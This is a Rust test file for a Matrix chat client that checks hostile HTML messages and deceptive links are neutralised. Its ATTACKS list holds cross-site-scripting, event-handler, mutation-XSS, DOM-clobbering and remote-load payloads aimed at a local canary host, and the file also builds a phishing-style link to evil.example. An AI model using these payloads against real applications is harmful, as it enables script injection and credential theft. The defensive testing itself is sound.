//! Messages from somebody who means harm, and links, in the window.

use std::sync::{
    Arc,
    atomic::{AtomicUsize, Ordering},
};

use fantoccini::key::Key;
use serde_json::{Value, json};
use tokio::net::TcpListener;

use crate::{
    desk::{Desk, Keyring},
    main_job::World,
    page::Page,
};

/// Somebody who waits to be reached by a page that was led on.
struct Canary {
    place: String,
    visits: Arc<AtomicUsize>,
}

impl Canary {
    async fn listening() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
        let place = format!("127.0.0.1:{}", listener.local_addr().expect("an address").port());
        let visits = Arc::<AtomicUsize>::default();
        let counted = visits.clone();
        tokio::spawn(async move {
            while listener.accept().await.is_ok() {
                counted.fetch_add(1, Ordering::Relaxed);
            }
        });
        Self { place, visits }
    }
}

/// What has been used against pages: scripts, handlers, foreign pictures and styles, names that hide the page's own, and
/// what falls apart when it is read twice. Each says that it ran, or fetches something.
const ATTACKS: &[&str] = &[
    "<script>window.ran = 1</script><script src=\"http://CANARY/s.js\"></script>",
    "<img src=\"http://CANARY/a.png\" onerror=\"window.ran = 2\" onload=\"window.ran = 2\">",
    "<img src=x onerror=window.ran=3>",
    "<svg onload=\"window.ran = 4\"><image href=\"http://CANARY/b.png\"/><script>window.ran = 4</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.ran = 5\"></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror='window.ran = 6'>\"></noscript>",
    "<style>@import url(http://CANARY/c.css); body { background: url(http://CANARY/d.png) }</style>",
    "<p style=\"background: url(http://CANARY/e.png); position: fixed; inset: 0\" class=\"dialog\">x</p>",
    "<iframe src=\"http://CANARY/f\"></iframe><object data=\"http://CANARY/g\"></object><embed src=\"http://CANARY/h\">",
    "<form id=\"composer\" action=\"http://CANARY/i\"><input name=\"attributes\"><button>Senden</button></form>",
    "<a id=\"root\" name=\"__TAURI_INTERNALS__\" href=\"javascript:window.ran=7\">Protokoll</a>",
    "<a href=\"data:text/html,<script>window.ran=8</script>\">Anlage</a>",
    "<link rel=\"stylesheet\" href=\"http://CANARY/j.css\"><meta http-equiv=\"refresh\" content=\"0;url=http://CANARY/k\">",
    "<video src=\"http://CANARY/l.mp4\" autoplay poster=\"http://CANARY/m.png\"></video><audio src=\"http://CANARY/n.ogg\" autoplay></audio>",
    "<details open ontoggle=\"window.ran = 9\"><summary>x</summary></details><body onload=\"window.ran = 10\">",
    "<base href=\"http://CANARY/\"><span data-mx-maths=\"x\" contenteditable onfocus=\"window.ran = 11\" autofocus>x</span>",
];

/// What of an attack would be in the page, if any were. Addresses that are read as text are links, which lead somewhere only
/// when they are pressed.
const TRACES: &str = "
    const [canary] = arguments;
    const feed = document.querySelector('[role=feed]');
    const foreign = [...feed.querySelectorAll('script, style, iframe, object, embed, form, link, meta, base, svg script, math, [contenteditable]')];
    const handlers = [...document.querySelectorAll('*')].filter((one) => [...one.attributes].some(({ name }) => name.startsWith('on')));
    const led = [...document.querySelectorAll('[src], [href], [poster], [action]')].filter((one) => !one.matches('a.text-link[href^=http]') &&
      [...one.attributes].some(({ value }) => /^\\s*(javascript|data):/i.test(value) || value.includes(canary)));
    return {
      ran: window.ran ?? null, foreign: foreign.length, handlers: handlers.length, led: led.map((one) => one.outerHTML),
      composers: document.querySelectorAll('#composer').length, roots: document.querySelectorAll('#root').length,
      base: document.baseURI, shell: typeof window.__TAURI_INTERNALS__.invoke,
    }";

/// Whether the page is as it was.
async fn unharmed(page: &Page, canary: &Canary, after: &str) {
    let traces = page.client.execute(TRACES, vec![json!(canary.place)]).await.expect("looked");
    assert_eq!(
        traces,
        json!({ "ran": null, "foreign": 0, "handlers": 0, "led": [], "composers": 1, "roots": 1,
            "base": traces["base"], "shell": "function" }),
        "after {after}"
    );
    assert!(traces["base"].as_str().is_some_and(|base| base.starts_with("tauri://")), "{traces}");
}

/// M10 of the faults that are tested against: what somebody writes runs nothing, shows nothing of its own and reaches nobody.
#[tokio::test(flavor = "multi_thread")]
async fn hostile_messages_run_nothing_and_reach_nobody() {
    let world = World::new().await;
    let canary = Canary::listening().await;
    let mut desk = Desk::new(Keyring::Unlocked);
    let page = world.anna(&mut desk).await;
    let say = |content: Value| world.carla.sends_as_written(&world.room, "m.room.message", content);
    for (number, attack) in ATTACKS.iter().enumerate() {
        let html = attack.replace("CANARY", &canary.place);
        let words = format!("Angriff {number}.");
        say(json!({ "msgtype": "m.text", "body": words, "format": "org.matrix.custom.html",
            "formatted_body": format!("<p>{words}</p>{html}") }))
        .await
        .expect("sent");
        page.on_message(&words).await;
        unharmed(&page, &canary, &words).await;
    }
    for (kind, name) in
        [("m.image", "bild.png"), ("m.video", "film.mp4"), ("m.audio", "ton.ogg"), ("m.file", "brief.html")]
    {
        let url = format!("http://{}/{name}", canary.place);
        say(json!({ "msgtype": kind, "body": name, "url": url, "info": { "thumbnail_url": url, "mimetype": "text/html" } }))
            .await
            .expect("sent");
    }
    world.carla.says(&world.room, "Das war alles").await.expect("sent");
    page.until_text("[data-event] .message-text", "Das war alles").await;

    unharmed(&page, &canary, "files from elsewhere").await;
    assert_eq!(canary.visits.load(Ordering::Relaxed), 0, "nobody was reached");
    page.close().await;
}

/// A link is pressed; what is asked then is told, and the question closed.
async fn asked_about(page: &Page, link: &str) -> String {
    let press = "const link = [...document.querySelectorAll('.message-text a')].find((one) => one.innerText === arguments[0]);
        link?.click();
        return link !== undefined";
    page.until("the link is there", press, vec![json!(link)]).await;
    let question = page.find("[role=alertdialog]").await.text().await.expect("words");
    page.presses(Key::Escape).await;
    page.until("it is gone", "return document.querySelector('[role=alertdialog]') === null", Vec::new())
        .await;
    question
}

#[tokio::test(flavor = "multi_thread")]
async fn links_lead_to_messages_and_are_asked_about_where_they_may_deceive() {
    let world = World::new().await;
    let mut desk = Desk::new(Keyring::Unlocked);
    let page = world.anna(&mut desk).await;
    let first = world.carla.says(&world.room, "Der Anfang").await.expect("sent");
    for number in 0..60 {
        world.carla.says(&world.room, &format!("Meldung {number}")).await.expect("sent");
    }
    let links = format!(
        "[https://rathaus.example](https://evil.example/login), [spielen](magnet:?xt=urn:btih:c12fe1c06bba254a9dc9f519b335aa7c1367a88a), \
         [dort](https://matrix.to/#/{}/{first}) und [hier](matrix:roomid/{}/e/{})",
        world.room.0,
        world.room.0.trim_start_matches('!'),
        first.as_str().trim_start_matches('$'),
    );
    world.carla.says(&world.room, &links).await.expect("sent");
    page.on_message("https://rathaus.example, spielen").await;

    let question = asked_about(&page, "https://rathaus.example").await;
    assert!(question.contains("evil.example"), "{question}");
    let question = asked_about(&page, "spielen").await;
    assert!(question.contains("magnet:"), "{question}");

    for form in ["https://matrix.to/", "matrix:roomid/"] {
        let press = "const link = document.querySelector(`.message-text a[href^='${arguments[0]}']`);
            link?.click();
            return link !== null";
        page.until(form, press, vec![json!(form)]).await;
        page.until_text("[data-aimed] .message-text", "Der Anfang").await;
        page.find(".timeline-back button").await.click().await.expect("clicked");
        page.on_message("https://rathaus.example, spielen").await;
    }
    page.close().await;
}
